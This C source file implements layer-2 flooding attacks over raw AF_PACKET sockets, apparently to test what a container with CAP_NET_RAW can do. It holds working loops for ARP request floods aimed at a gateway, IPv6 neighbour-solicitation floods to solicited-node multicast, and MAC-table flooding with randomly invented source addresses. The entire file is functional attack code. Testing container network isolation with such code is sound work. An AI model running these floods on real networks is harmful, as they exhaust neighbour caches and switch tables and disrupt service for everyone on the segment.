/* Frames that only CAP_NET_RAW lets a container write: ARP, neighbour solicitations, any source MAC. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/ip6.h>
#include <string.h>

#include "attack.h"

/* IEEE 802's own for experiments: nobody on the way looks into it, as bridges do with what calls itself IP. */
enum { EXPERIMENT = 0x88b5 };

static int open_raw(int card) {
  int raw = socket(AF_PACKET, SOCK_RAW, 0);
  struct sockaddr_ll on = {.sll_family = AF_PACKET, .sll_ifindex = card};
  if (raw < 0 || bind(raw, (struct sockaddr *)&on, sizeof on)) fail("AF_PACKET");
  return raw;
}

/* An address that is nobody's: locally administered, no group. */
static void invent_mac(uint8_t mac[6]) {
  fill_randomly(mac, 6);
  mac[0] = (mac[0] & 0xfc) | 2;
}

/* By turns: who has a random address, and a random address asks for the gateway's. */
unsigned long flood_arp(char **arguments) {
  struct card card = card_of(arguments[0]);
  struct place gateway = place_of(arguments[1], 0);
  struct {
    struct ether_header ether;
    struct ether_arp arp;
  } frame = {.ether.ether_type = htons(ETHERTYPE_ARP),
             .arp.ea_hdr = {htons(ARPHRD_ETHER), htons(ETHERTYPE_IP), 6, 4, htons(ARPOP_REQUEST)}};
  memset(frame.ether.ether_dhost, 0xff, 6);
  memcpy(frame.ether.ether_shost, card.mac, 6);
  memcpy(frame.arp.arp_sha, card.mac, 6);
  int raw = open_raw(card.index);
  unsigned long struck = 0;
  for (unsigned long turn = 0; attacking(); turn++) {
    struct in_addr stranger = {(card.address.s_addr & htonl(0xffff0000)) | htonl(dice() & 0xffff)};
    bool asks = turn % 2;
    memcpy(frame.arp.arp_spa, asks ? &stranger : &card.address, 4);
    memcpy(frame.arp.arp_tpa, asks ? &((struct sockaddr_in *)&gateway.address)->sin_addr : &stranger, 4);
    struck += send(raw, &frame, sizeof frame, 0) > 0;
  }
  return struck;
}

struct solicitation {
  struct ether_header ether;
  struct ip6_hdr ip;
  struct nd_neighbor_solicit ask;
  struct nd_opt_hdr option;
  uint8_t sender[6];
} __attribute__((packed));

/* RFC 4443, 2.3: over addresses, length, next header and the message. */
static uint16_t checksum(const struct solicitation *frame) {
  const uint8_t *at = (const uint8_t *)&frame->ip.ip6_src, *end = (const uint8_t *)(frame + 1);
  uint32_t sum = ntohs(frame->ip.ip6_plen) + IPPROTO_ICMPV6;
  for (; at < end; at += 2) sum += at[0] << 8 | at[1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(~sum);
}

/* By turns, as with ARP: for random addresses, and from random ones for the gateway's. */
unsigned long flood_nd(char **arguments) {
  struct card card = card_of(arguments[0]);
  struct place network = place_of(arguments[1], 0), gateway = place_of(arguments[2], 0);
  struct solicitation frame = {.ether.ether_type = htons(ETHERTYPE_IPV6),
                               .ip.ip6_flow = htonl(6u << 28),
                               .ip.ip6_plen = htons(sizeof frame - sizeof frame.ether - sizeof frame.ip),
                               .ip.ip6_nxt = IPPROTO_ICMPV6,
                               .ip.ip6_hlim = 255,
                               .ask.nd_ns_type = ND_NEIGHBOR_SOLICIT,
                               .option = {ND_OPT_SOURCE_LINKADDR, 1}};
  int raw = open_raw(card.index);
  unsigned long struck = 0;
  for (unsigned long turn = 0; attacking(); turn++) {
    struct place sender = somewhere_in(network), target = turn % 2 ? gateway : somewhere_in(network);
    struct in6_addr *wanted = &((struct sockaddr_in6 *)&target.address)->sin6_addr;
    frame.ip.ip6_src = ((struct sockaddr_in6 *)&sender.address)->sin6_addr;
    frame.ask.nd_ns_target = *wanted;
    /* RFC 4291, 2.7.1: the group of all whose address ends like this. */
    inet_pton(AF_INET6, "ff02::1:ff00:0", &frame.ip.ip6_dst);
    memcpy(frame.ip.ip6_dst.s6_addr + 13, wanted->s6_addr + 13, 3);
    frame.ether.ether_dhost[0] = frame.ether.ether_dhost[1] = 0x33;
    memcpy(frame.ether.ether_dhost + 2, frame.ip.ip6_dst.s6_addr + 12, 4);
    memcpy(frame.ether.ether_shost, card.mac, 6);
    memcpy(frame.sender, card.mac, 6);
    frame.ask.nd_ns_cksum = 0;
    frame.ask.nd_ns_cksum = checksum(&frame);
    struck += send(raw, &frame, sizeof frame, 0) > 0;
  }
  return struck;
}

/* To a container on another host and to everybody, each from another source. */
unsigned long flood_macs(char **arguments) {
  struct card card = card_of(arguments[0]);
  uint8_t peer[6];
  read_mac(arguments[1], peer);
  struct {
    struct ether_header ether;
    uint8_t payload[46];
  } frame = {.ether.ether_type = htons(EXPERIMENT)};
  int raw = open_raw(card.index);
  unsigned long struck = 0;
  for (unsigned long turn = 0; attacking(); turn++) {
    if (turn % 4) memcpy(frame.ether.ether_dhost, peer, 6);
    else memset(frame.ether.ether_dhost, 0xff, 6);
    invent_mac(frame.ether.ether_shost);
    struck += send(raw, &frame, sizeof frame, 0) > 0;
  }
  return struck;
}
